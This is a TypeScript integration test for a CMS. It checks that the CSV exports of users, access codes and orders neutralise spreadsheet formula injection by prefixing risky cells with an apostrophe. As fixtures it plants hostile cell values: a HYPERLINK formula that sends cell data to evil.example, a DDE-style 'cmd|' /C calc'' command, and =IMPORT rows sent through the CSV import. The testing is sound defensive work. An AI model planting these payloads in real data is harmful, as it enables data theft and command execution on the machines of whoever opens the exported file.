import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { placeholderEmail } from '../../src/bootstrap/accounts';
import { generateCodesResponseSchema } from '../../src/contract/access-codes';
import { houseResponseSchema } from '../../src/contract/houses';
import { orderResponseSchema } from '../../src/contract/shop';
import { importUsersResponseSchema, userResponseSchema } from '../../src/contract/users';
import { adminCall, call, signIn, type AdminSession } from '../helpers/api-client';
import { startTestServer, type TestServer } from '../helpers/strapi';
import { reportFigures } from '../helpers/figures';

/** The characters that make a spreadsheet run a cell as a formula (DECISIONS §4). */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const FORMULA_START = /^[=+\-@\t\r]/;
// Leading tab and CR do not survive the contract's trimming; those rows go straight into the database.
const THROUGH_API = (trigger: string) => trigger !== '\t' && trigger !== '\r';

/** RFC 4180, written here rather than taken from the cms, so the export is read as a spreadsheet would. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') row.push(cell), (cell = '');
    else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      (row = []), (cell = ''), i++;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
  return rows;
}

describe('CSV exports neutralise spreadsheet formulas', () => {
  let server: TestServer;
  let session: AdminSession;
  const figures: Record<string, Record<string, number>> = {};
  const planted = { users: [] as string[], houses: [] as string[], orders: [] as string[] };

  const payload = (suffix: string) => `${suffix}HYPERLINK("http://evil.example/?"&A1,"Klick")`;

  beforeAll(async () => {
    server = await startTestServer();
    session = await signIn(server);
    const product = (await server.strapi.db.query('api::product.product').findOne({ where: { isActive: true, availableQuantity: { $gt: 10 } } })) as {
      id: number;
      variants: string[];
    };

    for (const [index, trigger] of TRIGGERS.entries()) {
      const houseName = `${trigger}Haus ${index}`;
      let houseId: number;
      if (THROUGH_API(trigger)) {
        const response = await adminCall(server, session, 'POST', '/api/admin/houses', { body: { name: houseName, chatUrl: `https://chat.example.org/${index}` } });
        houseId = houseResponseSchema.parse(response.body).house.id;
      } else {
        const house = await server.strapi.documents('api::house.house').create({ data: { name: houseName, chatUrl: `https://chat.example.org/${index}` } });
        houseId = house.id as number;
      }
      planted.houses.push(houseName);
      generateCodesResponseSchema.parse((await adminCall(server, session, 'POST', '/api/admin/generate-codes', { body: { houseId, count: 2 } })).body);

      const username = `${trigger}${index}cmd|' /C calc'!A0`;
      if (THROUGH_API(trigger)) {
        userResponseSchema.parse((await adminCall(server, session, 'POST', '/api/admin/users', { body: { username, password: 'geheim-123', houseId } })).body);
      } else {
        await server.strapi.db.query('plugin::users-permissions.user').create({
          data: { username, email: placeholderEmail(`tab-cr-${index}`), password: 'x', provider: 'local', confirmed: true, isAdmin: false, house: houseId },
        });
      }
      planted.users.push(username);

      const [firstName, lastName] = [payload(trigger), `${trigger}Nachname`];
      if (THROUGH_API(trigger)) {
        const response = await call(server, 'POST', '/api/shop/orders', {
          body: { firstName, lastName, items: JSON.stringify([{ id: product.id, variant: product.variants[0], quantity: 1 }]) },
        });
        orderResponseSchema.parse(response.body);
      } else {
        await server.strapi.documents('api::order.order').create({
          data: { orderNumber: `GOS-20250724-TABCR${index}`, firstName, lastName, items: [], total: 0, status: 'pending' } as never,
        });
      }
      planted.orders.push(`${firstName} ${lastName}`);
    }
    // The CSV import is a way in too.
    const imported = await adminCall(server, session, 'POST', '/api/admin/import/users', {
      body: { csv: 'username,password\n"=IMPORT(""x"")",geheim-123\n"@import-at",geheim-123\n"-1+1-import",geheim-123\n' },
    });
    expect(importUsersResponseSchema.parse(imported.body).results).toMatchObject({ success: 3, failed: 0 });
    planted.users.push('=IMPORT("x")', '@import-at', '-1+1-import');
  });
  afterAll(async () => {
    if (server) reportFigures('csv-neutralisation', server.database.client, figures);
    await server?.destroy();
  });

  const exports = [
    { file: 'users.csv', path: '/api/admin/export/users', header: ['id', 'username', 'house', 'isAdmin'], uid: 'plugin::users-permissions.user', planted: () => [...planted.users, ...planted.houses] },
    { file: 'access-codes.csv', path: '/api/admin/export/access-codes', header: ['code', 'house', 'status', 'used at'], uid: 'api::access-code.access-code', planted: () => planted.houses },
    { file: 'orders.csv', path: '/api/admin/export/orders', header: ['order number', 'date', 'name', 'items', 'total', 'status', 'paid', 'handed over', 'history'], uid: 'api::order.order', planted: () => planted.orders },
  ] as const;

  it.each(exports)('$file prefixes every cell that starts with = + - @ tab or CR with a quote, and still parses', async ({ path, header, uid, planted: values, file }) => {
    const response = await fetch(`${server.baseUrl}${path}`, { headers: session.headers });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const bytes = Buffer.from(await response.arrayBuffer());
    // The BOM tells Excel the file is UTF-8; fetch's text() would hide it.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const body = bytes.subarray(3).toString('utf8');
    expect(body.endsWith('\r\n')).toBe(true);

    const [head, ...rows] = readCsv(body);
    expect(head).toEqual(header);
    expect(rows).toHaveLength(await server.strapi.db.query(uid as never).count());
    for (const row of rows) expect(row).toHaveLength(header.length);

    const cells = rows.flat();
    const dangerous = cells.filter((cell) => FORMULA_START.test(cell));
    expect(dangerous).toEqual([]);
    // Exactly what cms/src/http/csv.ts promises: the original text behind one apostrophe, quoted.
    for (const value of values()) {
      expect(cells, JSON.stringify(value)).toContain(`'${value}`);
      expect(body, JSON.stringify(value)).toContain(`"'${value.replace(/"/g, '""')}"`);
    }
    const neutralised = cells.filter((cell) => cell.startsWith("'") && FORMULA_START.test(cell.slice(1))).length;
    expect(neutralised).toBeGreaterThanOrEqual(values().length);
    figures[file] = { rows: rows.length, cells: cells.length, planted: values().length, neutralised, dangerous: dangerous.length };
  });
});
